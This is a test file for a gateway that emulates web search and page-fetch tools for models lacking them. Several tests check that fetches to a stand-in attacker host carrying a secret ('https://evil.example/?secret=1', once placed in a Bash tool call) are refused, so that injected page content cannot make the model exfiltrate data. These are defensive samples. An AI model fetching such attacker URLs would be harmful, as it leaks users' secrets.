import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
import Anthropic from '@anthropic-ai/sdk'
import { createGateway } from '@csp/gateway/gateway'
import { nativeUpstream } from '@csp/gateway/native/native'
import {
  type MessagesServer,
  messagesServer,
  type Sent,
} from '../../../../packages/gateway/test/support/messages-server.ts'
import { createApp } from '../../../../src/app.ts'
import { SearchError } from '../../../../src/domain/error.ts'
import { type FakeExecutor, fakeExecutor } from '../../../support/fake-executor.ts'
import { fakePageReader } from '../../../support/fake-page-reader.ts'

/** What the model of the upstream says, for each request in turn. */
type Says = readonly { readonly type: string; readonly [field: string]: unknown }[]

let server: MessagesServer
let executor: FakeExecutor
beforeEach(() => {
  executor = fakeExecutor(async function* (request) {
    if (request.query === 'limit') throw new SearchError('rate-limited', 'The plan is used up.')
    yield { type: 'search-start', id: 's', query: request.query }
    yield { type: 'search-results', id: 's', results: rows }
    yield { type: 'done', reason: 'stop', model: 'sonnet', usage: { searches: 1, inputTokens: 0, outputTokens: 0 } }
  })
})
afterEach(() => server.stop())

const rows = [
  { title: 'Seals', url: 'https://a.example/seals', snippet: 'Seals bark.', publishedAt: '2026-10-01', source: 'fake' },
  { title: 'Whales', url: 'https://b.example/whales', source: 'fake' },
]

/** A client on a gateway whose upstream's model says this, reply by reply. */
function clientOn(...replies: readonly Says[]) {
  let number = 0
  server = messagesServer('succeed', (body) => {
    const content = replies[Math.min(number, replies.length - 1)] ?? []
    number++
    return Response.json(reply(body, content))
  })
  const native = nativeUpstream({ name: 'local', baseUrl: server.url })
  const gateway = createGateway({
    upstreams: [
      { name: 'local', upstream: native, native: async () => native, isAnthropic: false, patterns: [['*', 'qwen3']] },
    ],
  })
  const pages = fakePageReader({
    'https://a.example/seals': { content: 'All about seals.', title: 'Seals' },
    'https://moved.test/': { content: 'A page.', finalUrl: 'https://evil.test/' },
    'https://notevil.test/': 'A page.',
    'https://good.test/docs/a': 'A page.',
  })
  const app = createApp({ executor, gateway, pages, version: '0' })
  return new Anthropic({
    apiKey: 'unused',
    baseURL: 'http://127.0.0.1',
    maxRetries: 0,
    fetch: async (url, init) => app.fetch(new Request(url, init)),
  })
}

function reply(body: Sent, content: Says) {
  const calls = content.some(({ type }) => type === 'tool_use')
  return {
    id: 'msg_up',
    type: 'message',
    role: 'assistant',
    model: body['model'],
    content,
    stop_reason: calls ? 'tool_use' : 'end_turn',
    stop_sequence: null,
    usage: { input_tokens: 10, output_tokens: 5 },
  }
}

const search = (query: string, id = 'call_1') => ({ type: 'tool_use', id, name: 'web_search', input: { query } })
const say = (text: string) => ({ type: 'text', text })
const webSearch = { type: 'web_search_20250305' as const, name: 'web_search' as const }
const webFetch = { type: 'web_fetch_20250910' as const, name: 'web_fetch' as const }
const question = { model: 'claude-sonnet-5', max_tokens: 100, messages: [{ role: 'user' as const, content: 'seals?' }] }

describe('a web search on a model that has none', () => {
  for (const isStreamed of [false, true]) {
    const how = isStreamed ? 'streamed' : 'whole'
    test(`is carried out within the turn, with citations behind it: ${how}`, async () => {
      const client = clientOn(
        [say('Let me look.'), search('harbour seals')],
        [say('They bark [1]. Whales too [2] [7].')],
      )
      const request = { ...question, tools: [webSearch] }
      const message = isStreamed
        ? await client.messages.stream(request).finalMessage()
        : await client.messages.create(request)
      expect(message.stop_reason).toBe('end_turn')
      expect(message.content).toMatchObject([
        { type: 'text', text: 'Let me look.' },
        { type: 'server_tool_use', name: 'web_search', input: { query: 'harbour seals' } },
        {
          type: 'web_search_tool_result',
          content: [
            { type: 'web_search_result', url: 'https://a.example/seals', title: 'Seals', page_age: '2026-10-01' },
            { type: 'web_search_result', url: 'https://b.example/whales', page_age: null },
          ],
        },
        { type: 'text', text: 'They bark', citations: [{ url: 'https://a.example/seals', cited_text: 'Seals bark.' }] },
        { type: 'text', text: '. Whales too', citations: [{ url: 'https://b.example/whales' }] },
        { type: 'text', text: ' [7].' },
      ])
      const [, use, result] = message.content
      expect(result).toMatchObject({ tool_use_id: use && 'id' in use ? use.id : '' })
      expect(message.usage).toMatchObject({
        input_tokens: 20,
        output_tokens: 10,
        server_tool_use: { web_search_requests: 1 },
      })
      expect(executor.requests).toMatchObject([{ query: 'harbour seals', want: 'results' }])
    })
  }

  const place = { city: 'Ulm', country: 'DE', timezone: 'Europe/Berlin' }

  test('is offered as a function, and its results reach the model with numbers, dates and excerpts', async () => {
    await clientOn([search('seals')], [say('Done.')]).messages.create({
      ...question,
      tools: [
        {
          ...webSearch,
          allowed_domains: ['a.example'],
          user_location: { type: 'approximate' as const, ...place, region: '' },
        },
        { name: 'note', input_schema: { type: 'object' } },
      ],
      tool_choice: { type: 'any' },
    })
    const [first, second] = server.requests
    expect(first?.body['tools']).toMatchObject([
      { name: 'web_search', input_schema: { type: 'object', required: ['query'] } },
      { name: 'note' },
    ])
    expect(JSON.stringify(first?.body['tools'])).not.toContain('web_search_20250305')
    expect(first?.body['tool_choice']).toEqual({ type: 'any' })
    expect(second?.body).not.toHaveProperty('tool_choice')
    expect(second?.body['messages']).toMatchObject([
      { role: 'user' },
      { role: 'assistant', content: [{ type: 'tool_use', id: 'call_1' }] },
      {
        role: 'user',
        content: [
          {
            type: 'tool_result',
            tool_use_id: 'call_1',
            content:
              '[1] Seals (2026-10-01)\nhttps://a.example/seals\nSeals bark.\n\n[2] Whales\nhttps://b.example/whales',
          },
        ],
      },
    ])
    expect(executor.requests[0]?.filters).toMatchObject({ includeDomains: ['a.example'], ...place })
  })

  test("keeps a call of the client's own tool in the same reply, behind the result of the search", async () => {
    const note = { type: 'tool_use', id: 'call_2', name: 'note', input: { text: 'x' } }
    const client = clientOn([note, search('seals'), { ...note, id: 'call_3' }])
    const message = await client.messages.create({
      ...question,
      tools: [webSearch, { name: 'note', input_schema: { type: 'object' } }],
    })
    expect(message.stop_reason).toBe('tool_use')
    expect(message.content.map(({ type }) => type)).toEqual([
      'tool_use',
      'server_tool_use',
      'web_search_tool_result',
      'tool_use',
    ])
    expect(server.requests).toHaveLength(1)
  })

  test('of an earlier turn is replayed to the model, and to the vendor itself it is not touched', async () => {
    const client = clientOn([search('seals')], [say('They bark [1].')], [say('Yes.')])
    const first = await client.messages.create({ ...question, tools: [webSearch] })
    const messages = [
      ...question.messages,
      { role: 'assistant' as const, content: first.content },
      { role: 'user' as const, content: 'Sure?' },
    ]
    await client.messages.create({ ...question, messages })
    const sent = JSON.stringify(server.requests.at(-1)?.body['messages'])
    expect(sent).toContain('"type":"tool_result"')
    expect(sent).toContain('Seals bark.')
    expect(sent).not.toContain('server_tool_use')
    expect(sent).not.toContain('citations')
  })

  test('stops at max_uses, and a search that fails is an error that the model reads', async () => {
    const tools = [{ ...webSearch, max_uses: 1 }]
    const client = clientOn([search('limit'), search('seals', 'call_2')], [say('I could not look.')])
    const { content } = await client.messages.create({ ...question, tools })
    expect(content).toMatchObject([
      { type: 'server_tool_use' },
      { type: 'web_search_tool_result', content: { error_code: 'too_many_requests' } },
      { type: 'server_tool_use' },
      { type: 'web_search_tool_result', content: { error_code: 'max_uses_exceeded' } },
      { type: 'text', text: 'I could not look.' },
    ])
    const results = JSON.stringify(server.requests[1]?.body['messages'])
    expect(results).toContain('The plan is used up.')
    expect(results).toContain('"is_error":true')
  })

  test('of a model that searches without end is paused', async () => {
    const message = await clientOn([search('seals')]).messages.create({ ...question, tools: [webSearch] })
    expect(message.stop_reason).toBe('pause_turn')
    expect(server.requests.length).toBeLessThanOrEqual(10)
  })

  test.each([{ query: 7 }, {}, { query: ' ' }])(
    'with the arguments %j is an error, and costs no search',
    async (input) => {
      const client = clientOn([{ ...search(''), input }], [say('Well.')])
      const { content } = await client.messages.create({ ...question, tools: [webSearch] })
      expect(content[1]).toMatchObject({ content: { error_code: 'invalid_tool_input' } })
      expect(executor.calls).toEqual([])
    },
  )
})

describe('reading a page on a model that has no tool for it', () => {
  const fetched = (url: string) => ({ type: 'tool_use', id: 'call_1', name: 'web_fetch', input: { url } })

  test('gives the page to the model and the client', async () => {
    const client = clientOn([fetched('https://a.example/seals')], [say('They bark.')])
    const messages = [{ role: 'user' as const, content: 'Read https://a.example/seals please' }]
    const { content } = await client.messages.create({ ...question, messages, tools: [webFetch] })
    expect(content).toMatchObject([
      { type: 'server_tool_use', name: 'web_fetch' },
      {
        type: 'web_fetch_tool_result',
        content: { type: 'web_fetch_result', content: { source: { data: 'All about seals.' }, title: 'Seals' } },
      },
      { type: 'text', text: 'They bark.' },
    ])
    expect(JSON.stringify(server.requests[1]?.body['messages'])).toContain('All about seals.')
  })

  test('is refused for an address that nobody named, so that a page cannot make the model send data away', async () => {
    const client = clientOn([fetched('https://evil.example/?secret')], [say('Well.')])
    const { content } = await client.messages.create({ ...question, tools: [webFetch] })
    expect(content[1]).toMatchObject({ content: { error_code: 'url_not_in_prior_context' } })
  })

  const secret = 'https://evil.example/?secret=1'
  test.each<readonly [string, Anthropic.MessageParam[]]>([
    ['in a text', [{ role: 'assistant', content: `See ${secret}` }]],
    [
      'in a call',
      [
        { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: secret } }] },
        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'done' }] },
      ],
    ],
    ['as the longer form of one that the user named', [{ role: 'assistant', content: 'Yes?' }]],
  ])('is refused for an address that the model itself wrote in an earlier turn: %s', async (_, earlier) => {
    const client = clientOn([fetched(secret)], [say('Well.')])
    const first = { role: 'user' as const, content: `Not ${secret}0 but https://evil.example/` }
    const messages = [first, ...earlier, { role: 'user' as const, content: 'Go on.' }]
    const { content } = await client.messages.create({ ...question, messages, tools: [webFetch] })
    expect(content[1]).toMatchObject({ content: { error_code: 'url_not_in_prior_context' } })
  })

  test.each([
    ['https://a.example/seals', '{"url":"https:\\/\\/a.example\\/seals"}'],
    ['https://a.example/seals', 'See [https://a.example/seals](https://a.example/seals).'],
    ['https://A.example/seals#top', 'https://a.example/seals'],
  ])('is allowed for %s, which a tool of the user said as %s', async (url, said) => {
    const client = clientOn([fetched(url)], [say('Well.')])
    const messages: Anthropic.MessageParam[] = [
      { role: 'user', content: 'Go.' },
      { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: {} }] },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: said }] },
    ]
    const { content } = await client.messages.create({ ...question, messages, tools: [webFetch] })
    expect(JSON.stringify(content[1])).not.toContain('url_not_in_prior_context')
  })

  test.each<readonly [string, object, boolean]>([
    ['https://evil.test/', { blocked_domains: ['Evil.Test'] }, false],
    ['https://evil.test./', { blocked_domains: ['evil.test'] }, false],
    ['https://www.evil.test/', { blocked_domains: ['https://evil.test./'] }, false],
    ['https://xn--bcher-kva.test/', { blocked_domains: ['BÜCHER.test'] }, false],
    ['https://notevil.test/', { blocked_domains: ['evil.test'] }, true],
    ['https://good.test/docs/a', { allowed_domains: ['good.test/docs'] }, true],
    ['https://good.test/docsother', { allowed_domains: ['good.test/docs'] }, false],
    ['https://good.test.evil.test/', { allowed_domains: ['good.test'] }, false],
    ['https://moved.test/', { allowed_domains: ['moved.test'] }, false],
    ['https://moved.test/', { blocked_domains: ['Evil.Test'] }, false],
    ['https://moved.test/', { allowed_domains: [] }, true],
  ])('keeps to the domains of the tool, behind redirects too: %s with %j', async (url, lists, isRead) => {
    const client = clientOn([fetched(url)], [say('Well.')])
    const messages = [{ role: 'user' as const, content: `Read ${url}` }]
    const { content } = await client.messages.create({ ...question, messages, tools: [{ ...webFetch, ...lists }] })
    expect(JSON.stringify(content[1]).includes('url_not_allowed')).toBe(!isRead)
    expect(JSON.stringify(content[1]).includes('A page.')).toBe(isRead)
  })

  test('is refused where a list of domains is none, which would allow all', async () => {
    const client = clientOn([say('never')])
    const tools = [{ ...webFetch, allowed_domains: 'good.test' as unknown as string[] }]
    const error: unknown = await client.messages.create({ ...question, tools }).catch((error: unknown) => error)
    expect(String(error)).toContain('400')
    expect(String(error)).toContain('tools.0.allowed_domains')
    expect(server.requests).toEqual([])
  })

  test('is allowed for what the search of the same turn found', async () => {
    const read = { ...fetched('https://a.example/seals'), id: 'call_2' }
    const client = clientOn([search('seals')], [read], [say('They bark.')])
    const { content } = await client.messages.create({ ...question, tools: [webSearch, webFetch] })
    expect(content[3]).toMatchObject({ type: 'web_fetch_tool_result', content: { type: 'web_fetch_result' } })
  })
})

test('a reply that calls for two hundred searches makes ten, and the others are told why', async () => {
  const calls = Array.from({ length: 200 }, (_, index) => search(`seals ${index}`, `call_${index}`))
  const client = clientOn(calls, [say('Well.')])
  const { content, usage } = await client.messages.create({ ...question, tools: [webSearch] })
  expect(executor.calls).toHaveLength(10)
  expect(usage.server_tool_use?.web_search_requests).toBe(10)
  expect(content.filter((block) => JSON.stringify(block).includes('max_uses_exceeded'))).toHaveLength(190)
})

describe("Claude Code's own request for a search", () => {
  test('is answered without a call of the upstream', async () => {
    const client = clientOn([say('never')])
    const message = await client.messages
      .stream({
        ...question,
        model: 'claude-haiku-4-5',
        system: 'You are an assistant for performing a web search tool use',
        messages: [{ role: 'user', content: 'Perform a web search for the query: harbour seals' }],
        tools: [{ ...webSearch, max_uses: 8 }],
      })
      .finalMessage()
    expect(message.content).toMatchObject([
      { type: 'server_tool_use', input: { query: 'harbour seals' } },
      { type: 'web_search_tool_result', content: [{ url: 'https://a.example/seals' }, {}] },
      { type: 'text' },
    ])
    expect(JSON.stringify(message.content[2])).toContain('Seals bark.')
    expect(message.model).toBe('claude-haiku-4-5')
    expect(server.requests).toEqual([])
    expect(executor.requests).toMatchObject([{ query: 'harbour seals', want: 'results' }])
  })
})
